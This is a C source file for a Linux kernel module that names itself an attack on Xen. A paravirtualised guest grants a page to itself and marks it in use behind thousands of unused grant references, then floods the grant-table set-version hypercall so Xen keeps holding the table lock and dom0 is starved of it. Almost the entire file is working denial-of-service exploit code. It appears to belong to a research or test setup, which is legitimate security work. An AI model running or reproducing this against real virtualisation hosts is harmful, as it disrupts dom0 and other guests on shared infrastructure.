// SPDX-License-Identifier: GPL-2.0-only
/*
 * grantlock.c - a guest kernel that keeps the lock of its grant table busy: an attack on dom0,
 * which needs that lock for each page of the guest that it maps or unmaps.
 *
 * The guest asks Xen for another version of its grant table, again and again.  Xen looks through
 * the table under the lock, finds a grant that is in use, and refuses.  That grant is one that the
 * guest has given to itself, behind as many unused ones as the parameter `refs` says.
 *
 * PV guests only: Xen maps no grants for the devices of others.  Load it before strata.ko, whose
 * grants then lie behind the one in use.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/gfp.h>
#include <linux/kthread.h>
#include <linux/ktime.h>
#include <linux/module.h>
#include <linux/sched.h>
#include <asm/xen/hypercall.h>
#include <xen/grant_table.h>
#include <xen/interface/grant_table.h>
#include <xen/page.h>
#include <xen/xenbus.h>

static unsigned short refs = 24000;
module_param(refs, ushort, 0444);

static struct task_struct *thread;

/* Returns Xen's answer, an error as a rule. */
static int ask_for_version(uint32_t version)
{
	struct gnttab_set_version set = { .version = version };

	return HYPERVISOR_grant_table_op(GNTTABOP_set_version, &set, 1);
}

static int hold_lock(void *unused)
{
	unsigned long times = 0;
	u64 begin = ktime_get_ns();
	int answer = -EBUSY;

	while (!kthread_should_stop() && answer == -EBUSY) {
		answer = ask_for_version(2);
		if (++times == 100)
			pr_info("one request takes %llu ns\n", (ktime_get_ns() - begin) / times);
		cond_resched();
	}
	pr_info("%lu requests, the last answer: %d\n", times, answer);
	while (!kthread_should_stop())
		schedule_timeout_interruptible(HZ);
	return 0;
}

/* Grants a page to this domain itself, and has Xen count it as in use.  0 or an error. */
static int use_a_grant(void)
{
	struct gnttab_map_grant_ref map = { .flags = GNTMAP_device_map | GNTMAP_readonly };
	struct page *page = alloc_page(GFP_KERNEL);
	unsigned int self;
	int ref;

	if (!page)
		return -ENOMEM;
	if (xenbus_scanf(XBT_NIL, "domid", "", "%u", &self) != 1)
		return -ENOENT;
	ref = gnttab_grant_foreign_access(self, xen_page_to_gfn(page), 1);
	if (ref < 0)
		return ref;
	map.dom = self;
	map.ref = ref;
	if (HYPERVISOR_grant_table_op(GNTTABOP_map_grant_ref, &map, 1))
		return -EIO;
	pr_info("grant %d of domain %u is in use, status %d\n", ref, self, map.status);
	return map.status ? -EIO : 0;
}

static int __init grantlock_init(void)
{
	grant_ref_t unused;
	int result = gnttab_alloc_grant_references(refs, &unused);

	if (!result)
		result = use_a_grant();
	if (result) {
		pr_err("no attack: %d\n", result);
		return result;
	}
	thread = kthread_run(hold_lock, NULL, "grantlock");
	return PTR_ERR_OR_ZERO(thread);
}

/* What it has taken stays taken: the guest ends with the test. */
static void __exit grantlock_exit(void)
{
	kthread_stop(thread);
}

module_init(grantlock_init);
module_exit(grantlock_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("An attack: keeps the lock of the grant table busy");
